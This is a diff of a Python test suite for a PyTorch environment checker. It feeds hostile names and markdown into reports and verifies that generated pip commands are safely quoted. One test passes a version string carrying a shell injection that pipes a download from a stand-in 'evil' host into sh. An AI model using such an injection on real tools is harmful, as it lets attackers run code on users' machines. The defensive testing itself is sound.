@@ -41,7 +41,7 @@ def _hostile_report() -> dict:
     snap["torch"]["devices"][0]["name"] = HOSTILE_NAME
     snap["platform"]["os_pretty"] = MD_EVIL
     snap["created"] = CLEAR
-    rep = report(snap)
+    rep = report(snap).to_dict()  # a saved report, edited by a stranger
     rep["tool_version"] = TITLE + MD_EVIL
     rep["findings"] = rep["findings"] + [
         {"code": "TE999" + CLEAR, "severity": "failure", "area": "gpu", "message": HOSTILE_NAME + MD_EVIL,
@@ -198,8 +198,9 @@ def test_windows_fix_golden():
     assert fix.startswith("& 'C:\\Users\\O''Brien\\AppData\\Local\\Programs\\Python\\python.exe' -m pip install ")
 
 
+# (macOS on Intel: a Mac with working MPS is told to keep its torch, with no command to quote)
 @pytest.mark.parametrize("name", ["h100_cu130_healthy", "pascal_gtx1080_cu130", "cpu_venv_no_gpu",
-                                  "macos_apple_silicon", "wsl1_cu130", "windows_cpu_wheel_rtx4070"])
+                                  "macos_intel_x86_64", "wsl1_cu130", "windows_cpu_wheel_rtx4070"])
 @pytest.mark.parametrize("exe", SHELL_HOSTILE[:12])
 def test_advise_command_is_quoted(name, exe):
     s = load(name)
@@ -216,8 +217,8 @@ def test_advise_command_is_quoted(name, exe):
 
 
 def test_advise_version_from_snapshot_cannot_reach_the_command():
-    from torch_envcheck import knowledge
-    cmd = knowledge.pip_install_command("python", '2.14.1"; curl evil | sh; "', "cu130")
+    from torch_envcheck.advice import pip_commands
+    cmd = pip_commands.pip_install_command("python", '2.14.1"; curl evil | sh; "', "cu130")
     assert "curl" not in cmd and "'torch==2.14.*'" in cmd
     _check_posix_command(cmd, None)
 
